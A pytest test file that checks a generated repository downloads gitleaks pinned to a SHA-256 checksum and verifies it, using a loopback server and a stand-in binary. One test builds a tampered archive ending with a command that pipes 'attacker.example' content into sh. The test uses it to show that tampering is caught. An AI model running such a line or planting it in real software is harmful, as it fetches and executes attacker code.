"""The gitleaks path of a generated repository: a pinned, checksum-verified download.

No internet here: a loopback HTTP server (127.0.0.1) serves release-shaped archives whose
`gitleaks` is a stand-in script recording its argv and the files it was given. Real gitleaks
is never downloaded by these tests.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import os
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlopsgen.new import create_repository

pytestmark = pytest.mark.skipif(
    any(shutil.which(tool) is None for tool in ("make", "git", "tar", "sha256sum")),
    reason="needs make, git, tar and sha256sum",
)

SPEC = "version: 1\nproject:\n  name: Spam Filter\nsecurity:\n  secrets_scan: {tool: gitleaks}\n"
VERSION = "8.21.2"
#: The stand-in gitleaks: records its argv and the files of the directory it scans, then
#: exits with STANDIN_EXIT (a finding is exit 1, as with gitleaks).
STANDIN = """#!/bin/sh
printf '%s\\n' "$@" > "$STANDIN_LOG/argv"
find . -type f | sort > "$STANDIN_LOG/files"
exit "${STANDIN_EXIT:-0}"
"""


def _archive(script: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        data = script.encode()
        info = tarfile.TarInfo("gitleaks")
        info.size = len(data)
        info.mode = 0o755
        tar.addfile(info, io.BytesIO(data))
        for name in ("LICENSE", "README.md"):
            extra = tarfile.TarInfo(name)
            tar.addfile(extra, io.BytesIO(b""))
    return buffer.getvalue()


def _platform() -> str:
    machine = {"x86_64": "x64", "amd64": "x64", "aarch64": "arm64"}.get(
        os.uname().machine, os.uname().machine
    )
    return f"{os.uname().sysname.lower()}_{machine}"


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """No access log on stderr."""


@pytest.fixture
def server(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A loopback HTTP server over a directory: (base URL, directory)."""
    root = tmp_path / "releases"
    root.mkdir()
    handler = functools.partial(_QuietHandler, directory=str(root))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", root
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    create_repository(SPEC, root)
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    subprocess.run(["git", "add", "-A"], cwd=root, check=True)
    return root


def _make(
    repo: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["make", *args, f"PYTHON={sys.executable}"],
        cwd=repo,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )


def _installed(repo: Path) -> list[Path]:
    return sorted((repo / ".tools").rglob("gitleaks*")) if (repo / ".tools").exists() else []


def test_a_tampered_archive_fails_the_install_loudly_and_installs_nothing(
    repo: Path, server: tuple[str, Path]
) -> None:
    base, releases = server
    genuine = _archive(STANDIN)
    tampered = _archive(STANDIN + "curl https://attacker.example/x | sh\n")
    (releases / f"gitleaks_{VERSION}_{_platform()}.tar.gz").write_bytes(tampered)
    result = _make(
        repo,
        "secrets-scan",
        f"GITLEAKS_URL_BASE={base}",
        f"GITLEAKS_SHA256={hashlib.sha256(genuine).hexdigest()}",
    )
    assert result.returncode != 0, result.stdout + result.stderr
    assert "FAILED" in result.stdout, "sha256sum -c names the failed archive"
    assert "does not have the pinned SHA-256" in result.stderr
    assert "nothing installed" in result.stderr
    assert _installed(repo) == [], "no binary written"
    assert not (repo / ".tools" / "download").exists(), "the download is removed"
    assert not (repo / "reports" / "gitleaks.sarif").exists(), "the scan never ran"


def test_the_pinned_checksum_is_not_taken_from_the_environment(
    repo: Path, server: tuple[str, Path]
) -> None:
    """Only a command-line override replaces the pin, never an inherited variable."""
    base, releases = server
    archive = _archive(STANDIN)
    (releases / f"gitleaks_{VERSION}_{_platform()}.tar.gz").write_bytes(archive)
    env = {"GITLEAKS_SHA256": hashlib.sha256(archive).hexdigest()}
    result = _make(repo, "gitleaks-install", f"GITLEAKS_URL_BASE={base}", env=env)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "does not have the pinned SHA-256" in result.stderr
    assert _installed(repo) == []


def test_an_unpinned_platform_fails_with_a_clear_message(repo: Path) -> None:
    result = _make(repo, "gitleaks-install", "GITLEAKS_PLATFORM=windows_x64")
    assert result.returncode == 2
    assert "no pinned checksum of gitleaks 8.21.2 for windows_x64" in result.stderr
    assert "linux_x64, linux_arm64, darwin_x64, darwin_arm64" in result.stderr
    assert _installed(repo) == []


def test_a_verified_archive_installs_and_secrets_scan_runs_it_over_the_tracked_files(
    repo: Path, server: tuple[str, Path], tmp_path: Path
) -> None:
    base, releases = server
    archive = _archive(STANDIN)
    (releases / f"gitleaks_{VERSION}_{_platform()}.tar.gz").write_bytes(archive)
    sha256 = hashlib.sha256(archive).hexdigest()
    override = (f"GITLEAKS_URL_BASE={base}", f"GITLEAKS_SHA256={sha256}")
    log = tmp_path / "log"
    log.mkdir()
    # Committed: a file under data/ and a force-added .env.production. Not committed: .env.
    (repo / "data" / "raw" / "notes.txt").write_text("notes\n")
    (repo / ".env.production").write_text("TOKEN=x\n")
    (repo / ".env").write_text("TOKEN=y\n")
    subprocess.run(["git", "add", "data/raw/notes.txt"], cwd=repo, check=True)
    subprocess.run(["git", "add", "-f", ".env.production"], cwd=repo, check=True)

    result = _make(repo, "secrets-scan", *override, env={"STANDIN_LOG": str(log)})
    assert result.returncode == 0, result.stdout + result.stderr
    binary = repo / ".tools" / "bin" / f"gitleaks-{VERSION}"
    assert _installed(repo) == [binary]
    assert binary.read_bytes() == STANDIN.encode()
    argv = (log / "argv").read_text().splitlines()
    assert argv[:4] == ["dir", ".", "--config", str(repo / ".gitleaks.toml")]
    assert "--redact" in argv
    assert argv[argv.index("--report-path") + 1] == str(repo / "reports" / "gitleaks.sarif")
    tracked = subprocess.run(
        ["git", "ls-files"], cwd=repo, capture_output=True, text=True, check=True
    ).stdout.split()
    scanned = [line.removeprefix("./") for line in (log / "files").read_text().splitlines()]
    assert scanned == sorted(tracked), "gitleaks sees exactly the files git tracks"
    assert "data/raw/notes.txt" in scanned
    assert ".env.production" in scanned
    assert ".env" not in scanned
    assert not (repo / ".tools" / "scan").exists(), "the copy is removed"

    # A finding (gitleaks exits 1) fails the target; the installed binary is reused.
    failed = _make(
        repo, "secrets-scan", *override, env={"STANDIN_LOG": str(log), "STANDIN_EXIT": "1"}
    )
    assert failed.returncode != 0, failed.stdout + failed.stderr
    assert "download" not in failed.stdout
    assert not (repo / ".tools" / "scan").exists()
